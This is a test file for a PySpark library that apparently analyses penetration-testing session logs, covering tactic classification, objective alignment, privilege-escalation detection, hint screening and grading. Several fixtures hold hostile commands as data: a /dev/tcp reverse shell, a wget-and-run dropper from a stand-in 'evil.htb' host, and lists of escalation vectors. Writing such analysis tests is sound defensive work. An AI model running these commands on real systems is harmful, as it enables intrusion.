import random

from pyspark.sql import functions as F

from helpers import board, episodes, findings
from runlens.functions import text as t
from runlens.operators import align, analysis, classify, defense, findings as ledger, ghost, golden, grade, guard, metrics, privesc, segment, substring
from runlens.schemas import RAW_COMMAND

RAW_NAMES = "session_uuid ord cmd started_at_ms ended_at_ms exit_code output_line_count output_digest context_path volume web".split()


def raw(spark, rows):
    base = dict(session_uuid="s", ord=0, cmd="ls", started_at_ms=0, ended_at_ms=0, exit_code=0, output_line_count=0, output_digest=None,
                context_path="host", volume=None, web=None)
    return spark.createDataFrame([tuple({**base, "ord": i, **r}[n] for n in RAW_NAMES) for i, r in enumerate(rows)], RAW_COMMAND)


def test_segmentation_cases(spark):
    rows = [
        dict(cmd="nmap -sV x", started_at_ms=0, ended_at_ms=60_000), dict(cmd="curl x", started_at_ms=61_000, ended_at_ms=62_000),
        dict(cmd="sudo -l", started_at_ms=62_000 + 360_000, ended_at_ms=62_000 + 361_000),
        dict(cmd="id", started_at_ms=430_000, ended_at_ms=430_000, context_path="host->ssh:t"),
        dict(cmd="ls", started_at_ms=430_000 + 2_400_000, ended_at_ms=430_000 + 2_400_000),
    ]
    got = segment.segment_episodes(raw(spark, rows)).orderBy("seq").collect()
    assert [(r.cmd, r.actor, r.gap_before_ms) for r in got] == [
        ("nmap -sV x", "machine_bound", 0), ("curl x", "human_active", 1000), ("", "think_pause", 360_000), ("sudo -l", "human_active", 0),
        ("id", "human_active", 0), ("", "idle", 2_407_000), ("ls", "human_active", 0)]
    assert got[2].tactic == "TA0004" and got[4].tactic == "TA0007"


def test_staging_override_matches_walk(spark):
    rng = random.Random(4)
    commands = ["sudo -l", "python3 -m http.server 80", "updog", "nmap x", "scp a b"]
    rows, want = [], []
    for s in range(6):
        last = "TA0007"
        for i in range(120):
            cmd = rng.choice(commands)
            ctx = rng.choice(["host", "host->ssh:t"])
            rows.append(dict(session_uuid=f"s{s}", ord=i, cmd=cmd, started_at_ms=i * 10, ended_at_ms=i * 10, context_path=ctx))
            base = {"sudo -l": "TA0004", "python3 -m http.server 80": "TA0002", "updog": "TA0007", "nmap x": "TA0007",
                    "scp a b": "TA0008" if "ssh:" in ctx else "TA0007"}[cmd]
            if ("http.server" in cmd or cmd == "updog") and last in ("TA0004", "TA0008"):
                base = "TA0011"
            want.append((f"s{s}", i + 1, base))
            last = base
    got = segment.segment_episodes(raw(spark, rows)).select("session_uuid", "seq", "tactic").collect()
    assert sorted(map(tuple, got)) == sorted(want)


def test_sudo_and_shell_overrides(spark):
    rows = [dict(cmd=c) for c in ("sudo nmap -p- x", "sudo tar x", "bash -i >& /dev/tcp/1/2", "ssh -i key h", "FOO=1 sqlmap -u x", "weird")]
    got = {r.cmd: (r.prior.tactic, r.prior.technique) for r in classify.classify_commands(raw(spark, rows)).collect()}
    assert got["sudo nmap -p- x"] == ("TA0007", "T1046") and got["sudo tar x"] == ("TA0004", "T1548")
    assert got["bash -i >& /dev/tcp/1/2"] == ("TA0002", "T1059") and got["ssh -i key h"] == ("TA0007", "T1059")
    assert got["FOO=1 sqlmap -u x"] == ("TA0001", "T1190") and got["weird"] == ("TA0007", "T1059")


def test_alignment_matches_walk(spark):
    """Greedy claims, order breaks, loops and detours against a direct sequential reading, on random sessions."""
    rng = random.Random(11)
    ladder = [dict(objective="a", satisfied_by=["x", "y -f"], depends_on=[]), dict(objective="b", satisfied_by=["y"], depends_on=["a"]),
              dict(objective="c", satisfied_by=["x"], depends_on=["b"]), dict(objective="d", satisfied_by=["z"], techniques=["T9"], depends_on=["a"])]
    eps, boards, want = [], [], []
    for s in range(25):
        name, steps = f"s{s}", []
        for i in range(rng.randint(1, 60)):
            tool = rng.choice("xyzw")
            steps.append(dict(session_uuid=name, seq=i + 1, cmd=tool + rng.choice(["", " -f", " q"]), exit_code=rng.choice([0, 0, 1]),
                              output_digest=rng.choice([None, "ok", "denied"]), actor=rng.choice(["human_active"] * 5 + ["think_pause"]),
                              technique=rng.choice(["T1", "T9"])))
        eps += steps
        taken, seqs = {}, {}
        for n, o in enumerate(ladder):
            boards.append(dict(session_uuid=name, ordinal=n, **o))
            for e in steps:
                if e["seq"] in taken:
                    continue
                idx = -1
                if o.get("techniques") and e["technique"] in o["techniques"]:
                    idx = 0
                else:
                    words = e["cmd"].split()
                    for i, m in enumerate(o["satisfied_by"]):
                        parts = m.split()
                        if parts[0] in words and all(f in words for f in parts[1:]):
                            idx = i
                            break
                if idx >= 0:
                    taken[e["seq"]] = "match" if idx == 0 else "alternative"
                    seqs[o["objective"]] = e["seq"]
                    break
        for o in ladder:
            for dep in o["depends_on"]:
                if o["objective"] in seqs and dep in seqs and seqs[o["objective"]] < seqs[dep]:
                    taken[seqs[o["objective"]]] = "out_of_order"
        running = [e for e in steps if e["actor"] != "think_pause"]
        loops = {}
        for i, e in enumerate(running):
            if e["seq"] in taken:
                continue
            failed = e["exit_code"] != 0 or e["output_digest"] == "denied"
            tool = e["cmd"].split()[0]
            if failed and i + 1 < len(running) and running[i + 1]["cmd"].split()[0] == tool:
                loops[e["seq"]] = running[i + 1]["seq"]
            elif failed and i and running[i - 1]["cmd"].split()[0] == tool and running[i - 1]["seq"] not in loops:
                loops[e["seq"]] = running[i - 1]["seq"]
            else:
                taken[e["seq"]] = "detour" if failed else "alternative"
        want += [(name, e["seq"], taken.get(e["seq"]), loops.get(e["seq"])) for e in steps]
    aligned, _ = align.align(episodes(spark, eps).drop("alignment", "loop_of_seq"), board(spark, boards).drop("user_satisfied_by_seq"))
    got = aligned.select("session_uuid", "seq", "alignment", "loop_of_seq").collect()
    key = lambda r: (r[0], r[1])
    assert sorted(map(tuple, got), key=key) == sorted(want, key=key)


def test_candidates_by_broadcast_and_by_index(spark):
    """The same rows whichever way, sessions with different ladders, and no exchange of episodes where ladders are broadcast."""
    eps = episodes(spark, [dict(session_uuid=s, cmd=c, tactic=tac, technique=tech) for s in ("s", "u") for c, tac, tech in (
        ("nmap -sV h", "TA0007", "T1"), ("/usr/bin/nmap h", "TA0007", "T1046"), ("x", "TA0007", "t1046"), ("curl a", "TA0007", "T1"), ("nmap -sV", "TA0001", "T1046"), ("", "TA0007", "T1046"))])
    own = board(spark, [dict(session_uuid="s", satisfied_by=["nmap -sV", "nmap"]), dict(session_uuid="s", ordinal=1, objective="p", techniques=["T1046"], satisfied_by=[]),
                        dict(session_uuid="u", ordinal=0, satisfied_by=["curl"], objective="q")]).drop("user_satisfied_by_seq")
    want = [("s", 0, 1, 0), ("s", 0, 2, 1), ("s", 1, 2, 0), ("s", 1, 3, 0), ("s", 1, 6, 0), ("u", 0, 4, 0)]
    back = {(r.session_uuid, r.seq): (r.seq - 1) % 6 + 1 for r in eps.collect()}
    for most in (align.MOST_BROADCAST, 0):
        got = align.candidates(eps, own, most=most).collect()
        assert sorted((r.session_uuid, r.ordinal, back[r.session_uuid, r.seq], r.method_idx) for r in got) == want, most


def test_containment_equals_pairs(spark):
    rng = random.Random(2)
    word = lambda n: "".join(rng.choice("ab/") for _ in range(n))
    texts = [("g%d" % (i % 2), i, word(40)) for i in range(60)]
    values = [("g%d" % (i % 2), f"v{i}", word(rng.randint(1, 12))) for i in range(60)]
    got = substring.containing(
        spark.createDataFrame(texts, "g string, n int, text string"), spark.createDataFrame(values, "g string, id string, value string"),
        ["g"], "n", "text", "id", "value").select("g", "n", "id").collect()
    want = [(g, n, i) for g, n, x in texts for h, i, v in values if g == h and v in x]
    assert sorted(map(tuple, got)) == sorted(want) and len(set(want)) == len(want)


def test_containment_of_all_lengths(spark, monkeypatch):
    """Values cut out of texts, near misses and values of other groups; shorter than a gram, than a window, and longer."""
    monkeypatch.setattr(substring, "BATCH_BYTES", 500)
    rng = random.Random(3)
    word = lambda n: "".join(rng.choice("abé/世") for _ in range(n))
    texts = [("g%d" % (i % 3), i, word(rng.choice([0, 3, 30, 400]))) for i in range(90)] + [("g0", 90, None), (None, 91, "abc"), ("g0", 92, "ab" * 200)]
    values = []
    for k in range(300):
        g, _n, text = rng.choice(texts[:90])
        at, n = rng.randrange(len(text) + 1), rng.choice([1, 2, 5, 7, 8, 9, 14, 15, 16, 40])
        own = text[at : at + n]
        values.append((rng.choice([g, "g0", "none"]), f"v{k}", own if rng.random() < 0.7 else own[:-1] + "z"))
    values += [("g0", "periodic", "ab" * 20), ("g0", "once", "ab" * 20 + "c"), ("g0", "empty", ""), ("g0", "null", None)]
    got = substring.containing(
        spark.createDataFrame(texts, "g string, n int, text string"), spark.createDataFrame(values, "g string, id string, value string"),
        ["g"], "n", "text", "id", "value").select("g", "n", "id").collect()
    want = [(g, n, i) for g, n, x in texts for h, i, v in values if g is not None and g == h and x and v and v in x]
    assert sorted(map(tuple, got)) == sorted(want) and len(want) > 300
    none = spark.createDataFrame([], "g string, id string, value string")
    assert substring.containing(spark.createDataFrame(texts, "g string, n int, text string"), none, ["g"], "n", "text", "id", "value").count() == 0


def test_grams_that_leave_a_task(spark):
    """Only grams that values may have are handed on: far fewer than bytes, and of the value's windows all."""
    rng = random.Random(4)
    text = "".join(rng.choice("abcdefgh ") for _ in range(60_000))
    value = text[5000:5060]
    frame = spark.createDataFrame([("g", 1, text)], "g string, n int, text string").withColumn("_g", F.xxhash64("g"))
    options = substring.value_grams(spark.createDataFrame([("g", value)], "g string, value string").withColumn("_g", F.xxhash64("g")), ["g"], "value")
    kept = {r.gram for r in options.collect()}
    found = {r.gram for r in substring.text_grams(frame, ["g"], "text", [substring.WINNOWED], substring._filter(options)).collect()}
    assert 5 <= len(kept) <= 30 and kept <= found and len(found) < len(kept) + 20


def test_findings_and_uses(spark):
    eps = episodes(spark, [
        dict(cmd="nmap h", output_digest="22/tcp open ssh\n8080/tcp open 9090/tcp open http"), dict(cmd="curl http://h:8080/a"), dict(cmd="curl h:80801"),
        dict(cmd="cat root.txt", output_digest="nothing"), dict(cmd="x", output_digest="user: bob HTB{abc} CVE-2021-1234"), dict(cmd="try user: bob")])
    found = ledger.extract(eps)
    ids = {r.id: r for r in found.collect()}
    assert {"port:22-tcp", "port:8080-tcp", "flag:root", "vuln:CVE-2021-1234"} <= set(ids) and "port:9090-tcp" not in ids
    assert ids["flag:root"].proven is False and ids["flag:root"].value == "root.txt"
    uses = {(r.id.split(":")[0], r.used_seq) for r in ledger.link_uses(eps, found).collect()}
    assert ("port", 2) in uses and ("port", 3) not in uses and ("cred", 6) in uses
    masked = {r.kind: r.value for r in ledger.mask(found, "public_safe").where("kind in ('cred', 'vuln')").collect()}
    assert masked["cred"] == "••••ob" and masked["vuln"] == "CVE-2021-1234"


def test_waste_is_disjoint(spark):
    eps = episodes(spark, [
        dict(gap_before_ms=5000), dict(alignment="detour", duration_ms=7000), dict(loop_of_seq=2, duration_ms=3000),
        dict(actor="think_pause", duration_ms=0, gap_before_ms=400_000, noise_weight=0.0), dict(actor="idle", duration_ms=0, gap_before_ms=9_000_000)])
    w = metrics.waste(eps).first()
    assert w.productive_ms + w.detour_ms + w.stuck_ms + w.loop_ms == w.active_ms and (w.detour_ms, w.loop_ms) == (7000, 3000)
    assert w.stuck_ms == 400_000 - 5000


def test_noise_context_and_volume(spark):
    eps = episodes(spark, [dict(binary="curl", noise_weight=2.0, volume=100), dict(binary="curl", noise_weight=2.0, volume=100, context_path="host->ssh:t"),
                           dict(binary="ls", noise_weight=2.0, context_path="host->ssh:t"), dict(binary="x", noise_weight=0.0)])
    got = [round(r.n, 6) for r in eps.select("seq", metrics.episode_noise().alias("n")).orderBy("seq").collect()]
    assert got == [6.0, 9.6, 1.4, 0.0]


def test_escalation_signals(spark):
    eps = episodes(spark, [
        dict(cmd="id", output_digest="uid=33(www) gid=33(www) groups=33(www),999(docker),4(adm)"),
        dict(cmd="uname -a", output_digest="Linux box 5.10.0-1 x86"),
        dict(cmd="sudo -l", output_digest="env_keep+=LD_PRELOAD\n(root) NOPASSWD: /usr/bin/find, /opt/tool"),
        dict(cmd="find / -perm -4000", output_digest="/usr/bin/python3.9\n/usr/bin/passwd"),
        dict(cmd="getcap -r /", output_digest="/usr/bin/perl = cap_setuid+ep"),
        dict(cmd="ls -ld /etc/systemd/system", output_digest="drwxr-xrwx 2 root root /etc/systemd/system"),
        dict(cmd="cat /etc/exports", output_digest="/srv *(rw,no_root_squash)"), dict(cmd="a", exit_code=1), dict(cmd="b", alignment="detour"),
        dict(cmd="w", output_digest="uid=0(root) gid=0(root)")])
    facts = privesc.host_facts(eps)
    paths = privesc.escalation_paths(eps, None, facts)
    got = {r.path_id: (r.severity, r.evidence_seq) for r in paths.collect()}
    assert got["group:docker"] == ("confirmed", 1) and got["group:adm"] == ("likely", 1)
    assert got["sudo:find"] == ("confirmed", 3) and got["sudo:tool"] == ("likely", 3) and got["ld-preload"] == ("confirmed", 3)
    assert got["suid:python3"] == ("confirmed", 4) and got["suid:passwd"] == ("info", 4) and got["cap:perl:cap_setuid"] == ("confirmed", 5)
    assert got["writable:/etc/systemd/system"] == ("confirmed", 6) and got["nfs:/srv"] == ("confirmed", 7)
    assert got["kcve:CVE-2022-0847"] == ("likely", 0) and "kcve:CVE-2024-1086" not in got
    s = privesc.escalation_summary(eps, paths, facts).first()
    assert (s.first_confirmed_seq, s.rooted_seq, s.slow_line, s.first_confirmed_title) == (1, 10, True, "group docker")


def test_ghost_verdicts_and_signals(spark):
    eps = episodes(spark, [dict(cmd="nmap h"), dict(cmd="x"), dict(cmd="y"), dict(cmd="z"), dict(cmd="q"), dict(cmd="bash", tactic="TA0002", alignment="match"),
                           dict(cmd="smbclient -L //h -N", exit_code=0)])
    rows = board(spark, [dict(objective="scan", user_satisfied_by_seq=1), dict(objective="shell", tactic="TA0002", depends_on=["scan"], user_satisfied_by_seq=6),
                         dict(objective="late", tactic="TA0006", depends_on=["shell"])])
    found = findings(spark, [dict(id="port:1", source_seq=1), dict(id="cred:1", kind="cred", value="p=1", source_seq=6)])
    got = {r.objective: r for r in ghost.ghost_items(eps, rows, found).collect()}
    assert got["scan"].verdict == "ahead" and got["late"].verdict == "skipped" and got["late"].unlock_seq == 6
    # the credential found at step 6 raises the enabling step of execution only if it is the earliest, so the shell is late
    assert got["shell"].verdict == "late_pivot" and got["shell"].lag_ms == 5000
    assert "reuse_found_cred" not in got and got["audit_smb_shares"].unlock_seq == 7
    total = ghost.totals(ghost.ghost_items(eps, rows, found)).first()
    assert total.ghost_time_lost_ms == 5000 and total.ghost_human_wins == 1


def test_lineage_in_any_order(spark):
    rows = spark.createDataFrame(
        [("g", 0, "c", "T3", ["b"]), ("g", 1, "a", "T1", []), ("g", 2, "b", "T2", ["a", "missing"])],
        "golden_id string, ordinal int, objective string, tactic string, depends_on array<string>")
    got = {r.objective: (r.depth, sorted(r.lineage_tactics)) for r in golden.with_lineage(rows).collect()}
    assert got == {"a": (0, ["T1"]), "b": (1, ["T1", "T2"]), "c": (2, ["T1", "T2", "T3"])}
    assert {(r.objective, r.depends_on) for r in golden.check_order(rows).collect()} == {("c", "b"), ("b", "missing")}


def test_grade_versions_and_gate(spark):
    base = "session_uuid string, objective_coverage_pct double, technique_breadth bigint, efficiency_pct double, stealth_score double, methodology_coverage_pct double, independence_score double"
    df = spark.createDataFrame([("v1", 100.0, 12, 100.0, 100.0, None, None), ("v2", 100.0, 12, 100.0, 100.0, 0.0, None), ("gate", 100.0, 12, 100.0, 100.0, None, 30.0)], base)
    pulls = spark.createDataFrame([("v1", 2, 1, "ai:golden"), ("v1", 1, 2, "x")], "session_uuid string, tier int, at_ms bigint, source string")
    got = {r.session_uuid: r for r in grade.grade(df, grade.hint_summary(pulls)).collect()}
    assert got["v1"].version == 1 and got["v1"].independence == 91.0 and any("2 hints (1 AI)" in x for x in got["v1"].rationale)
    assert got["v2"].version == 2 and not got["v2"].measured and got["v2"].letter == "B"
    assert abs(sum(c.weight for c in got["v2"].components) - 1) < 1e-9
    assert got["gate"].routed_to == "integrity_queue"


def test_chain_and_tampering(spark):
    rows = spark.createDataFrame([(k, i, f'{{"n":{i}}}') for k in ("a", "b") for i in range(5)], "chain string, position int, content string")
    made = grade.build_chain(rows, "chain")
    assert all(r.ok for r in grade.verify_chain(made, "chain").collect())
    edited = made.withColumn("content", F.when((F.col("chain") == "b") & (F.col("position") == 3), "{}").otherwise(F.col("content")))
    assert {r.chain: r.broken_at for r in grade.verify_chain(edited, "chain").collect()} == {"a": None, "b": 3}


def test_investigation(spark):
    incident = episodes(spark, [dict(session_uuid="i", cmd="wget http://evil.htb/a.sh"), dict(session_uuid="i", seq=2, cmd="sh /tmp/dropper.sh"), dict(session_uuid="i", seq=3, cmd="cat")])
    run = episodes(spark, [dict(session_uuid="r", cmd="ls"), dict(session_uuid="r", seq=2, cmd="grep x", output_digest="saw /TMP/dropper.sh here", started_at_ms=10_000)])
    cases = spark.createDataFrame([("c", "i", "r")], "case_id string, incident_session string, run_session string")
    out = defense.defense_report(cases, incident.unionByName(run)).first()
    assert out.artifacts == 2 and out.found == 1 and out.human_wins == 0 and "wget" in out.lesson


def test_hint_screening_folds_text(spark):
    hints = spark.createDataFrame(
        [("1", "s", "re​ad your notes", "process", 1), ("2", "s", "ｎｍａｐ again", "process", 1), ("3", "s", "look at gobuster", "process", 1),
         ("4", "s", "try the sqlmaps", "technique", 3), ("5", "s", "see 10.0.0.1", "area", 2), ("6", "s", "", "area", 2)],
        "hint_id string, session_uuid string, hint string, kind string, tier int")
    goals = board(spark, [dict(objective="use_tool", satisfied_by=["sqlmap"])])
    got = {r.hint_id: (r.text, r.reason) for r in guard.screen_hints(hints, goals, episodes(spark, [dict(cmd="gobuster dir")])).collect()}
    assert got["1"] == ("read your notes", None) and got["2"] == ("nmap again", "tierOneTools: nmap") and got["3"][1] is None
    assert got["4"][1] == "golden: sqlmap" and got["5"][1] == "artifacts: ipv4" and got["6"][1] == "shape: missing or empty hint"


def test_recovery_and_holes(spark):
    eps = episodes(spark, [dict(cmd="a", alignment="match"), dict(cmd="b", alignment="detour"), dict(cmd="b", loop_of_seq=2), dict(cmd="b", alignment="detour"),
                           dict(cmd="", actor="think_pause", gap_before_ms=50), dict(cmd="c", alignment="alternative", gap_before_ms=7)])
    rec = analysis.recoveries(eps, board(spark, [dict()])).collect()
    assert [(r.stuck_seq, r.recovered_seq, r.latency_ms) for r in rec] == [(2, 6, 4007)]
    holes = analysis.rabbit_holes(eps).collect()
    assert [(h.start_seq, h.end_seq, h.binary, h.attempts) for h in holes] == [(2, 4, "b", 3)]
